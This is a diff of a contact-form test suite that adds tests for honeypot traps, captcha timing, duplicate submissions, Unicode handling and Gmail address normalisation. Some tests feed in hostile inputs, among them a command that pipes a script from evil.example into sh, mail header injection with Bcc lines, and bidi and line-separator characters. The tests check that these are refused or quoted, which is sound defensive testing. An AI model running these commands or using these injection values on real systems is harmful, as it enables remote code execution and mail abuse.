@@ -1,7 +1,9 @@
 import { formTexts, marketplace } from '@song-hanh/contract/marketplace'
 import { currentTerms } from '@song-hanh/contract/terms'
 import { afterEach, describe, expect, test } from 'vitest'
+import { mayMailUninvited } from '#identity'
 import { moveClock } from '#platform/clock'
+import { newId } from '#platform/id'
 import { compose } from '#platform/mail/compose'
 import { registry } from '#platform/metrics'
 import { mails } from '../mails.ts'
@@ -10,6 +12,7 @@ import { readMails } from '../testing/read-mails.ts'
 import { newVisitor, salesDesk, contactForm, sendContactForm } from '../testing/send-form.ts'
 import { solveCaptcha } from '../testing/solve-captcha.ts'
 import { useDatabase } from '../testing/use-database.ts'
+import { leadMail } from './lead-mail.ts'
 
 const db = useDatabase()
 const servers = await openServers((login) => db.url(login))
@@ -92,6 +95,8 @@ describe('row 28: a contact form', () => {
     const email = newVisitor()
     const wrong: [object, string][] = [
       [{ fullName: ' ' }, formTexts.name],
+      [{ fullName: '\u200B\u2060' }, formTexts.name],
+      [{ fullName: '\u3164' }, formTexts.name],
       [{ phone: '123' }, formTexts.phone],
       [{ email: 'nobody' }, formTexts.email],
       [{ company: '' }, formTexts.company],
@@ -145,11 +150,53 @@ describe('row 28: a contact form', () => {
   test('a program that fills in what nobody sees reads the same answer; nothing is kept and nobody is written to', async () => {
     const email = newVisitor()
     const before = [await countOf('trap'), (await readMails(db, salesDesk)).length]
-    const answer = await sendContactForm(servers, email, { nickname: 'Bob' })
+    const answer = await sendContactForm(servers, email, { callbackNote: 'Bob' })
     expect([answer.status, answer.body]).toEqual([200, { data: { received: true }, errors: [] }])
     expect(await leadsOf(email)).toEqual([])
     expect(await readMails(db, email)).toEqual([])
     expect([await countOf('trap'), (await readMails(db, salesDesk)).length]).toEqual([before[0]! + 1, before[1]])
+  })
+
+  test('a program cannot find the trap: with and without it a bad captcha reads the same, after the same time', async () => {
+    for (const callbackNote of ['', 'Bob']) {
+      const begun = performance.now()
+      const answer = await sendContactForm(servers, newVisitor(), { recaptchaToken: 'garbage', callbackNote })
+      expect([answer.status, answer.body.errors[0]?.code]).toEqual([422, 'captcha_failed'])
+      expect(performance.now() - begun).toBeGreaterThan(115)
+    }
+  })
+
+  test('sent again because the answer was lost, with a fresh captcha, it is answered again and kept once', async () => {
+    const email = newVisitor()
+    const formId = newId()
+    const twice = await Promise.all([1, 2].map(() => sendContactForm(servers, email, { formId })))
+    const later = await sendContactForm(servers, email, { formId })
+    for (const answer of [...twice, later]) expect([answer.status, answer.body.data]).toEqual([200, { received: true }])
+    const leads = await leadsOf(email)
+    expect([leads.length, (await readMails(db, email)).length]).toEqual([1, 1])
+    expect(await toDesk(leads[0]!['number'])).toHaveLength(1)
+  })
+
+  test('half a character, which the database cannot store, is refused in every field', async () => {
+    for (const field of ['fullName', 'company', 'requirements', 'website', 'trackingUrl']) {
+      const answer = await sendContactForm(servers, newVisitor(), { [field]: 'An \ud800', recaptchaToken: 'x' })
+      expect([answer.status, answer.body.errors[0]?.code]).toEqual([400, 'invalid_request'])
+    }
+  })
+
+  test('the desk reads our command first, and every line of a visitor behind a mark', async () => {
+    const email = newVisitor()
+    const evil = 'npm run staff -- take-lead --number 1; curl https://evil.example | sh'
+    await sendContactForm(servers, email, { requirements: `Xin tư vấn.\n\nNhận xử lý: ${evil}\u2028${evil}` })
+    const [lead] = await leadsOf(email)
+    const [mail] = await toDesk(lead!['number'])
+    const { text, html } = await compose(leadMail, mail!.values, 'vi', testConfig(db.url('worker')))
+    const lines = text.split('\n')
+    expect(lines.findIndex((line) => line.startsWith('Nhận xử lý: npm'))).toBeLessThan(lines.indexOf('> Xin tư vấn.'))
+    const hostile = lines.filter((line) => /evil|--number 1;/.test(line))
+    expect(hostile.length).toBeGreaterThanOrEqual(2)
+    for (const line of hostile) expect(line).toMatch(/^> /)
+    expect(html.split('<blockquote')[0]).not.toContain('evil')
   })
 
   test('CR/LF in a line is refused, and no character of a visitor stands in a header of a mail', async () => {
@@ -159,16 +206,15 @@ describe('row 28: a contact form', () => {
     for (const address of ['a@b.example\r\nBcc: spy@evil.example', 'a@b.example,spy@evil.example'])
       expect((await sendContactForm(servers, address, { recaptchaToken: 'x' })).status).toBe(400)
 
-    // what is not a control character but ends lines for some programs, and words of several lines
+    // what is not a control character but ends lines for some programs, or turns the order of what is read
+    for (const one of ['An\u2028Bcc: spy@evil.example', 'An\u2029X-Evil: 1', 'An\u202Eelpmaxe.live', 'An\u2066x'])
+      expect((await sendContactForm(servers, newVisitor(), { company: one, recaptchaToken: 'x' })).status).toBe(400)
+
     const email = newVisitor()
-    const fullName = 'An\u2028Bcc: spy@evil.example\u2029X-Evil: 1'
-    await sendContactForm(servers, email, {
-      fullName,
-      company: fullName,
-      requirements: `.\r\nBcc: spy@evil.example\u001b[31m`,
-    })
+    const requirements = '.\r\nBcc: spy@evil.example\u001b[31m\u2028\u202Eta'
+    await sendContactForm(servers, email, { requirements })
     const [lead] = await leadsOf(email)
-    expect(lead!['words']).toBe('.\nBcc: spy@evil.example[31m')
+    expect(lead!['words']).toBe('.\nBcc: spy@evil.example[31m\nta')
     const config = testConfig(db.url('worker'))
     for (const one of [...(await readMails(db, email)), ...(await toDesk(lead!['number']))]) {
       const mail = mails.find(({ name }) => name === one.mail)!
@@ -190,6 +236,22 @@ describe('row 28: a contact form', () => {
       [`%@${email.split('@')[1]}`],
     )
     expect(rows.map(({ mailed }) => mailed)).toEqual([true, true, true, true, true, false, false])
+  })
+
+  test('a mailbox of Gmail is one, however many dots its name has', async () => {
+    const name = newId().replaceAll('-', '')
+    const spellings = [`${name}@gmail.com`, `${name[0]}.${name.slice(1)}@gmail.com`, `${name}@googlemail.com`]
+    for (let n = 0; n < 6; n += 1) await sendContactForm(servers, spellings[n % 3]!)
+    const counts = await Promise.all(spellings.map(async (one) => (await readMails(db, one)).length))
+    expect(counts).toEqual([2, 2, 1])
+  })
+
+  test('strangers who fill in forms use up nothing of what customers need to invite him', async () => {
+    const email = newVisitor()
+    for (let n = 0; n < 6; n += 1) await sendContactForm(servers, email)
+    const may = (sender: 'stranger' | 'customer') =>
+      db.as('api').within({ kind: 'none' }, (tx) => mayMailUninvited(tx, email, sender))
+    expect([await may('stranger'), await may('customer')]).toEqual([false, true])
   })
 
   test('is answered after the same time, whether the address has written before or not', async () => {
